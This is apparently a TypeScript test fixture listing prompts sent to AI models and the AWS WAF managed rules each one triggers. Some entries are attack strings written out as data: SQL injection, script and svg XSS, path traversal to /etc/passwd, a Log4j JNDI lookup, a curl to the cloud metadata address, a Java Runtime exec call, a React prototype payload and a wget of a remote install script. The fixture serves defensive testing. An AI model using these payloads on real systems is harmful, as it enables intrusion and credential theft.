/** What people send to models, and the managed rules that are known or documented to look for it. */
export interface Prompt {
  readonly name: string;
  readonly content: string;
  /** In the order of the groups, those included that we do not use. */
  readonly fires: readonly string[];
  readonly source: string;
}

const baseline = 'docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html';
const useCase = 'docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-use-case.html';

/** A screenshot in base64: the alphabet, but nothing that means anything. */
const image = Buffer.from(Array.from({ length: 30_000 }, (_, index) => (index * 167) % 251)).toString('base64');

export const prompts: readonly Prompt[] = [
  {
    name: 'SQL injection',
    content: "Why is SELECT * FROM users WHERE name = '' OR 1=1 unsafe?",
    fires: ['AWSManagedRulesSQLiRuleSet/SQLi_BODY'],
    source: `${useCase}; aprin-labs/archimedes pull request 676`,
  },
  {
    name: 'SQL that ends a string',
    content: "Explain the input Robert'; DROP TABLE students",
    fires: ['AWSManagedRulesSQLiRuleSet/SQLi_BODY', 'AWSManagedRulesSQLiRuleSet/SQLiExtendedPatterns_BODY'],
    source: useCase,
  },
  {
    name: 'script tag',
    content: 'What does <script>alert(1)</script> do?',
    fires: ['AWSManagedRulesCommonRuleSet/CrossSiteScripting_BODY'],
    source: `${baseline}; kodustech/kodus-ai issue 1886`,
  },
  {
    name: 'meta tag',
    content: 'Write a page that begins with <meta charset="utf-8">',
    fires: ['AWSManagedRulesCommonRuleSet/CrossSiteScripting_BODY'],
    source: 'BerriAI/litellm issue 12421',
  },
  {
    name: 'path traversal',
    content: 'cat ../../etc/passwd',
    fires: ['AWSManagedRulesCommonRuleSet/GenericLFI_BODY'],
    source: 'aws-samples/sample-kolya-br-proxy pull request 39',
  },
  {
    name: 'JNDI lookup',
    content: 'Is ${jndi:ldap://198.51.100.1/a} dangerous?',
    fires: ['AWSManagedRulesCommonRuleSet/GenericRFI_BODY', 'AWSManagedRulesKnownBadInputsRuleSet/Log4JRCE_BODY'],
    source: baseline,
  },
  {
    name: 'metadata address',
    content: 'curl http://169.254.169.254/latest/meta-data',
    fires: ['AWSManagedRulesCommonRuleSet/EC2MetaDataSSRF_BODY', 'AWSManagedRulesCommonRuleSet/GenericRFI_BODY'],
    source: `${baseline}; aws-samples/sample-kolya-br-proxy pull request 109`,
  },
  {
    name: 'a local service',
    content: 'My app listens on localhost:8188, how do I reach it?',
    fires: ['AWSManagedRulesCommonRuleSet/EC2MetaDataSSRF_BODY'],
    source: 'aws-samples/sample-kolya-br-proxy pull request 109',
  },
  {
    name: 'Java that starts a process',
    content: '(java.lang.Runtime).getRuntime().exec("whoami")',
    fires: ['AWSManagedRulesKnownBadInputsRuleSet/JavaDeserializationRCE_BODY'],
    source: baseline,
  },
  {
    name: 'serialized Java in base64',
    content: 'What is rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==?',
    fires: ['AWSManagedRulesKnownBadInputsRuleSet/JavaDeserializationRCE_BODY'],
    source: `the rule's name; ${baseline} gives no bytes`,
  },
  {
    name: 'payload against React',
    content: 'Explain {"then":"$1:__proto__:then","status":"resolved_model"}',
    fires: ['AWSManagedRulesKnownBadInputsRuleSet/ReactJSRCE_BODY'],
    source: `${baseline}; CVE-2025-55182`,
  },
  {
    name: 'remote file by address',
    content: 'wget http://203.0.113.7/install.sh',
    fires: ['AWSManagedRulesCommonRuleSet/GenericRFI_BODY'],
    source: 'aws-samples/wafv2-json-yaml-samples issue 1; aws-samples/sample-kolya-br-proxy pull request 109',
  },
  {
    name: 'shell commands',
    content: 'What does echo $HOME; cat notes print?',
    fires: ['AWSManagedRulesUnixRuleSet/UNIXShellCommandsVariables_BODY'],
    source: useCase,
  },
  {
    name: 'PHP',
    content: '<?php $s = fsockopen($_GET["host"], 80); ?>',
    fires: ['AWSManagedRulesPHPRuleSet/PHPHighRiskMethodsVariables_BODY'],
    source: useCase,
  },
  {
    name: '200 KB of code',
    content: 'const answer = 42;\n'.repeat(10_800),
    fires: ['AWSManagedRulesCommonRuleSet/SizeRestrictions_BODY'],
    source: 'deepracer-on-aws issue 89',
  },
  {
    name: 'an image in base64',
    content: `data:image/png;base64,${image}`,
    fires: ['AWSManagedRulesCommonRuleSet/SizeRestrictions_BODY'],
    source: baseline,
  },
  {
    name: 'a tool result with HTML and shortened links',
    content: '{"formattedUrl":"https://www.example.edu/personnel.../revisions.html","html":"<svg onload=x></svg>"}',
    fires: ['AWSManagedRulesCommonRuleSet/GenericLFI_BODY', 'AWSManagedRulesCommonRuleSet/CrossSiteScripting_BODY'],
    source: 'aws-solutions-library-samples/guidance-for-multi-provider-generative-ai-gateway-on-aws issue 133',
  },
  {
    name: 'an agent with everything at once',
    content: `../../ <meta> http://127.0.0.1:8188 \${jndi:x} java.lang.Runtime __proto__:then ${'x'.repeat(150_000)}`,
    fires: [
      'AWSManagedRulesCommonRuleSet/SizeRestrictions_BODY',
      'AWSManagedRulesCommonRuleSet/EC2MetaDataSSRF_BODY',
      'AWSManagedRulesCommonRuleSet/GenericLFI_BODY',
      'AWSManagedRulesCommonRuleSet/GenericRFI_BODY',
      'AWSManagedRulesCommonRuleSet/CrossSiteScripting_BODY',
      'AWSManagedRulesKnownBadInputsRuleSet/JavaDeserializationRCE_BODY',
      'AWSManagedRulesKnownBadInputsRuleSet/Log4JRCE_BODY',
      'AWSManagedRulesKnownBadInputsRuleSet/ReactJSRCE_BODY',
    ],
    source: 'aws-samples/sample-kolya-br-proxy pull requests 37, 38, 39 and 109',
  },
];
